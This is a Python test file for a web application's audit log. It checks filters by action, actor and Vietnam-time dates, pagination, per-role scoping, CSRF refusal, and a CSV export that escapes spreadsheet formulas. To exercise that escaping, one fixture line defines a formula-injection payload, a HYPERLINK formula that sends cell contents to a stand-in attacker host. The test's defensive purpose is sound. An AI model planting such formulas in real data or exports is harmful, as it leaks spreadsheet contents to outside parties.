"""The audit log through the real application: the trail of the units in scope, filtered by
action, actor and dates (the reader's days in Asia/Ho_Chi_Minh), 50 a page; its CSV export
neutralises a cell a spreadsheet would run as a formula and is itself audited; officers reach
neither; every route × role sees only its subtree's events; the export refuses a missing
CSRF token."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from html import unescape
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

from communepol.db.models import AuditEvent
from communepol.services import audit
from tests.web.adminkit import Browser, Clock, Scene, csrf_of, scene, signed_in

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def event(
    action: str, unit_id: int | None, at: datetime, actor: str = "Nguyễn Văn An", **data: Any
) -> AuditEvent:
    row = await audit.record(action, actor_label=actor, unit_id=unit_id, source="bot", data=data)
    await AuditEvent.filter(id=row.id).update(at=at)
    return row


@pytest.fixture
async def people(client: TestClient[Any, Any]) -> Scene:
    people = await scene()
    a, b = people.commune_a.id, people.commune_b.id
    # 1 March in Vietnam is 28 Feb 17:00 UTC to 1 March 17:00 UTC.
    await event("tip.acknowledged", a, datetime(2026, 2, 28, 16, 30, tzinfo=UTC), marker="feb-28")
    await event("tip.acknowledged", a, datetime(2026, 2, 28, 17, 30, tzinfo=UTC), marker="mar-1")
    await event("post.published", a, datetime(2026, 3, 1, 9, 0, tzinfo=UTC), actor="Trần Thị Bình")
    await event("staff.added", a, datetime(2026, 3, 1, 10, 0, tzinfo=UTC), actor=FORMULA)
    await event("tip.acknowledged", b, datetime(2026, 3, 1, 11, 0, tzinfo=UTC), marker="commune-b")
    await event(
        "tip.acknowledged",
        people.district_1.id,
        datetime(2026, 3, 1, 12, 0, tzinfo=UTC),
        marker="district-1",
    )
    return people


async def test_filters_by_action_actor_and_dates(
    client: TestClient[Any, Any], people: Scene, clock: Clock
) -> None:
    supervisor = await signed_in(client, people.supervisor_1, clock, {})
    page = await supervisor.get("/admin/audit?lang=en")
    assert page.status == 200
    html = unescape(await page.text())
    for marker in ("feb-28", "mar-1", "district-1"):
        assert f"marker={marker}" in html
    assert "commune-b" not in html
    by_action = unescape(await (await supervisor.get("/admin/audit?action=post.published")).text())
    assert "Trần Thị Bình" in by_action and "marker=" not in by_action
    prefix = unescape(await (await supervisor.get("/admin/audit?action=tip.")).text())
    assert "marker=mar-1" in prefix and "Trần Thị Bình" not in prefix
    by_actor = unescape(await (await supervisor.get("/admin/audit?actor=thị bình")).text())
    assert "post.published" in by_actor.split("<tbody>")[1] and "marker=" not in by_actor
    # 1 March in Vietnam: not the event of 28 Feb 23:30 (16:30 UTC), but the one of 00:30.
    day = unescape(
        await (
            await supervisor.get(
                "/admin/audit?action=tip.acknowledged&since=2026-03-01&until=2026-03-01"
            )
        ).text()
    )
    assert "marker=mar-1" in day and "marker=district-1" in day and "marker=feb-28" not in day
    early = unescape(await (await supervisor.get("/admin/audit?until=2026-02-28")).text())
    assert "marker=feb-28" in early and "marker=mar-1" not in early
    bad = await supervisor.get("/admin/audit?since=01/03/2026&lang=en")
    assert bad.status == 400 and "YYYY-MM-DD" in await bad.text()


async def test_the_log_is_paginated(
    client: TestClient[Any, Any], people: Scene, clock: Clock
) -> None:
    for n in range(55):
        await event("duty.on", people.commune_a.id, datetime(2026, 3, 2, 1, 0, n, tzinfo=UTC), n=n)
    supervisor = await signed_in(client, people.supervisor_1, clock, {})
    first = unescape(await (await supervisor.get("/admin/audit?action=duty.on&lang=en")).text())
    assert first.count('<tr id="audit-') == 50
    assert "n=54" in first and "n=4," not in first and "n=4<" not in first
    assert (
        "page 1 of 2" in first
        and "action=duty.on&amp;page=2"
        in await (await supervisor.get("/admin/audit?action=duty.on&lang=en")).text()
    )
    second = unescape(
        await (await supervisor.get("/admin/audit?action=duty.on&page=2&lang=en")).text()
    )
    assert second.count('<tr id="audit-') == 5 and "n=0<" in second


async def test_the_csv_export_neutralises_formulas_and_is_audited(
    client: TestClient[Any, Any], people: Scene, clock: Clock
) -> None:
    supervisor = await signed_in(client, people.supervisor_1, clock, {})
    token = csrf_of(await (await supervisor.get("/admin/audit")).text())
    response = await supervisor.post(
        "/admin/audit/export", {"csrf": token, "action": "", "actor": ""}
    )
    assert response.status == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    text = (await response.read()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["at", "action", "actor"]
    actors = [row[2] for row in rows[1:]]
    assert "'" + FORMULA in actors and FORMULA not in actors
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
    assert all("commune-b" not in cell for row in rows for cell in row)
    # The five seeded events of district 1 and commune A, and the supervisor's own sign-in.
    assert len([row for row in rows[1:] if not row[1].startswith("auth.")]) == 5
    exported = await AuditEvent.get(action="audit.exported")
    assert exported.actor_staff_id == people.supervisor_1.id
    assert exported.data["rows"] == len(rows) - 1
    # Filtered: only what the filter shows.
    filtered = await supervisor.post(
        "/admin/audit/export", {"csrf": token, "action": "staff.added", "since": "2026-03-01"}
    )
    lines = list(csv.reader(io.StringIO((await filtered.read()).decode("utf-8-sig"))))
    assert [row[1] for row in lines[1:]] == ["staff.added"]
    assert await AuditEvent.filter(action="audit.exported").count() == 2


# --- the scope matrix --------------------------------------------------------------------------

ROLES = ("officer_a", "officer_b", "supervisor_1", "supervisor_2", "admin")
MARKERS = ("mar-1", "commune-b", "district-1")
SEES = {
    "officer_a": set(),
    "officer_b": set(),
    "supervisor_1": {"mar-1", "district-1"},
    "supervisor_2": {"commune-b"},
    "admin": {"mar-1", "commune-b", "district-1"},
}


async def test_every_audit_route_keeps_each_role_in_its_subtree(
    client: TestClient[Any, Any], people: Scene, clock: Clock
) -> None:
    secrets: dict[int, str] = {}
    problems: list[str] = []
    for role in ROLES:
        browser = await signed_in(client, getattr(people, role), clock, secrets)
        manager = role.startswith(("supervisor", "admin"))
        page = await browser.get("/admin/audit")
        html = unescape(await page.text())
        if page.status != (200 if manager else 403):
            problems.append(f"{role} GET /admin/audit: {page.status}")
        for marker in MARKERS:
            if (f"marker={marker}" in html) is not (marker in SEES[role]):
                problems.append(f"{role} GET shows {marker}: {marker not in SEES[role]}")
        token = csrf_of(await (await browser.get("/admin/password")).text())
        export = await browser.post("/admin/audit/export", {"csrf": token})
        body = (await export.read()).decode("utf-8-sig")
        if export.status != (200 if manager else 403):
            problems.append(f"{role} POST export: {export.status}")
        for marker in MARKERS:
            if (
                f"marker={marker}" in body.replace('"', "").replace(": ", "=")
            ) and marker not in SEES[role]:
                problems.append(f"{role} export shows {marker}")
    exports = await AuditEvent.filter(action="audit.exported").values_list("actor_label", flat=True)
    assert sorted(exports) == sorted(
        getattr(people, role).full_name
        for role in ROLES
        if role.startswith(("supervisor", "admin"))
    )
    anonymous = Browser(client)
    assert (await anonymous.get("/admin/audit")).status == 303
    assert (await anonymous.post("/admin/audit/export", {})).status == 403
    assert problems == []


async def test_the_export_refuses_a_missing_csrf_token(
    client: TestClient[Any, Any], people: Scene, clock: Clock
) -> None:
    admin = await signed_in(client, people.admin, clock, {})
    token = csrf_of(await (await admin.get("/admin/audit")).text())
    assert (await admin.post("/admin/audit/export", {})).status == 403
    assert (await admin.post("/admin/audit/export", {"csrf": "forged"})).status == 403
    assert (
        await admin.post("/admin/audit/export", {"csrf": token}, origin="http://evil")
    ).status == 403
    assert not await AuditEvent.exists(action="audit.exported")
